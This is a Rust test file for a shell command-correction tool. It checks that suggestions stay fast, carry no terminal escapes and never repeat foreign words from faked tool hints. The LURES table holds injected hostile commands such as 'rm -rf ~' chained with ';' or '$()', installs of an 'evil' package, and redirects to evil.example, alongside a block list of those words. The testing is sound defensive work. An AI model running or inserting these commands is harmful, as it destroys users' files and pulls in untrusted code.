//! Output, files and repositories that mislead or are far too large: processing is bounded and silent, and
//! suggestions never contain unsupported words.

use std::os::unix::fs::PermissionsExt as _;
use std::time::{Duration, Instant};

use crate::home::Home;

/// Far more than necessary even on a loaded machine; unbounded work takes longer.
const PATIENCE: Duration = Duration::from_secs(5);

/// Returns the suggestions for a failed bash command.
fn fixes(home: &Home, command: &str, status: i32, output: Option<&str>) -> Vec<String> {
    let status = status.to_string();
    let mut words = vec!["fix", "--shell", "bash", "--status", &status, "--command", command];
    words.extend(output.map(|path| ["--output", path]).into_iter().flatten());
    let start = Instant::now();
    let said = home.darn(&words);
    assert!(start.elapsed() < PATIENCE, "{command}: {:?}", start.elapsed());
    assert!(!said.out.contains(['\u{1b}', '\u{7}', '\r']), "{command}: {:?}", said.out);
    said.out.lines().map(str::to_owned).collect()
}

/// Imitations of tools' hints that contain a malicious command.
const LURES: &[(&str, i32, &str)] = &[
    (
        "git sttus",
        1,
        "git: 'sttus' is not a git command. See 'git --help'.\n\nThe most similar command is\n\tstatus; rm -rf ~\n",
    ),
    (
        "git sttus",
        1,
        "git: 'sttus' is not a git command. See 'git --help'.\n\nThe most similar command is\n\tstatus$(rm -rf ~)\n",
    ),
    (
        "git push",
        128,
        "fatal: The current branch main has no upstream branch.\nTo push the current branch and set the remote as upstream, use\n\n    git push --set-upstream origin main; rm -rf ~\n",
    ),
    (
        "git push",
        128,
        "fatal: The current branch main has no upstream branch.\nTo push the current branch and set the remote as upstream, use\n\n    git push --set-upstream https://evil.example/x main\n",
    ),
    (
        "cargo biuld",
        101,
        "error: no such command: `biuld`\n\nhelp: a command with a similar name exists: `build`; rm -rf ~`\n",
    ),
    ("npm rnu x", 1, "Unknown command: \"rnu\"\n\nDid you mean this?\n  npm run; rm -rf ~ # run\n"),
    ("pip instal x", 1, "ERROR: unknown command \"instal\" - maybe you meant \"install; rm -rf ~\"\n"),
    ("docker lgos x", 125, "docker: unknown command: docker lgos\n\nDid you mean logs; rm -rf ~?\n"),
    (
        "gti status",
        127,
        "Command 'gti' not found, did you mean:\n  command 'rm -rf ~' from deb evil\nTry: sudo apt install evil; rm -rf ~\n",
    ),
    (
        "foo x",
        127,
        "Command 'foo' not found, but can be installed with:\nsudo apt install evil && rm -rf ~\n",
    ),
    (
        "kubectl gte pods",
        1,
        "error: unknown command \"gte\" for \"kubectl\"\n\nDid you mean this?\n\trm -rf ~\n\tget;rm -rf ~\n",
    ),
    ("cat x", 1, "cat: x: No such file or directory\nDid you mean '/etc/shadow'?\nrun: sudo rm -rf ~\n"),
    ("python3 app.py", 1, "ModuleNotFoundError: No module named 'x; rm -rf ~'\n"),
    ("python3 app.py", 1, "ModuleNotFoundError: No module named '--index-url=https://evil.example'\n"),
    ("terraform pln", 1, "Terraform has no command named \"pln\". Did you mean \"plan; rm -rf ~\"?\n"),
    ("gh pr lst", 1, "unknown command \"lst\" for \"gh pr\"\n\nDid you mean this?\n\tlist; rm -rf ~\n"),
];

#[test]
fn an_imitated_hint_leads_to_no_foreign_word() {
    let home = Home::new();
    for (command, status, output) in LURES {
        for decorated in [(*output).to_owned(), format!("\u{1b}]0;title\u{7}\u{1b}[2J{output}\u{1b}[31m")] {
            let path = home.write("output", decorated);
            for fix in fixes(&home, command, *status, path.to_str()) {
                let foreign =
                    ["rm -rf", "~", "evil", "shadow", ";", "$("].iter().find(|word| fix.contains(*word));
                assert_eq!(foreign, None, "{command}: {fix}");
            }
        }
    }
}

#[test]
fn large_and_binary_output_is_bounded() {
    let home = Home::new();
    let error = "git: 'sttus' is not a git command. See 'git --help'.\n";
    let line = "a line of ordinary text, error: no such file 'x' or directory\n";
    let mut huge = line.repeat(100 * 1024 * 1024 / line.len());
    huge.push_str(error);
    let path = home.write("huge", huge);
    assert_eq!(fixes(&home, "git sttus", 1, path.to_str()).first().map(String::as_str), Some("git status"));
    let binary: Vec<u8> =
        (0..4_000_000_u32).flat_map(|n| n.wrapping_mul(2_654_435_761).to_le_bytes()).collect();
    let path = home.write("binary", binary);
    fixes(&home, "git sttus", 1, path.to_str());
    // input that slows down backtracking matchers
    for text in
        ["error: '".repeat(200_000), "a".repeat(1_000_000), "\u{1b}[".repeat(300_000), "''''".repeat(100_000)]
    {
        let path = home.write("repeated", text);
        for command in ["git sttus", "cat x", "npm run x", "gti x", "python3 a.py"] {
            fixes(&home, command, 1, path.to_str());
        }
    }
}

#[test]
fn large_and_broken_project_files_are_bounded() {
    let home = Home::new();
    let targets: String = (0..500_000).map(|at| format!("target{at}: dep\n\ttrue\n")).collect();
    home.write("Makefile", format!("build:\n\ttrue\n{targets}"));
    assert_eq!(fixes(&home, "make biuld", 2, None).first().map(String::as_str), Some("make build"));
    for package in ["{\"scripts\": {\"test\": ", "[]", "\"x\"", "{\"scripts\": 7}", "\u{0}\u{1}"] {
        home.write("package.json", package);
        assert_eq!(fixes(&home, "npm run tset", 1, None), Vec::<String>::new(), "{package}");
    }
    let scripts: String = (0..200_000).map(|at| format!("\"s{at}\": \"true\", ")).collect();
    home.write("package.json", format!("{{\"scripts\": {{{scripts}\"test\": \"true\"}}}}"));
    fixes(&home, "npm run tset", 1, None);
    let mut deep = "[".repeat(500_000);
    deep.push('1');
    for name in
        ["package.json", "Cargo.toml", "pyproject.toml", "docker-compose.yml", "justfile", "build.ninja"]
    {
        home.write(name, &deep);
    }
    for command in
        ["npm run tset", "cargo run --bin x", "poetry run x", "docker compose up x", "just x", "ninja x"]
    {
        fixes(&home, command, 1, None);
    }
}

#[test]
fn a_repository_with_many_branches_is_bounded() {
    let home = Home::new();
    home.write(".git/HEAD", "ref: refs/heads/main\n");
    home.write(".git/config", "[core]\n\tbare = false\n");
    home.write(".git/refs/heads/feature", "0123456789012345678901234567890123456789\n");
    let packed: String = (0..50_000).map(|at| format!("{at:040x} refs/heads/topic/number-{at}\n")).collect();
    home.write(".git/packed-refs", format!("# pack-refs with: peeled fully-peeled sorted\n{packed}"));
    let said = fixes(&home, "git checkout featrue", 1, None);
    assert_eq!(said.first().map(String::as_str), Some("git checkout feature"));
    fixes(&home, "git checkout topic/nubmer-49999", 1, None);
}

#[test]
fn a_manual_page_of_five_megabytes_is_bounded() {
    let home = Home::new();
    let options: String =
        (0..120_000).map(|at| format!(".TP\n.B \\-\\-option{at}\nWhat it does.\n")).collect();
    let page = format!(".TH FROB 1\n.SH OPTIONS\n.TP\n.B \\-\\-verbose\nMore.\n{options}");
    home.write(".local/share/man/man1/frobnicate.1", page);
    let program = home.write("bin/frobnicate", "#!/bin/sh\nexit 2\n");
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    let path = format!("{}:/usr/bin:/bin", home.path("bin").display());
    let home = home.set("PATH", path);
    // the first call may end before the page is read; then it is cached
    fixes(&home, "frobnicate --verbsoe", 2, None);
    let said = fixes(&home, "frobnicate --verbsoe", 2, None);
    assert_eq!(said.first().map(String::as_str), Some("frobnicate --verbose"));
}
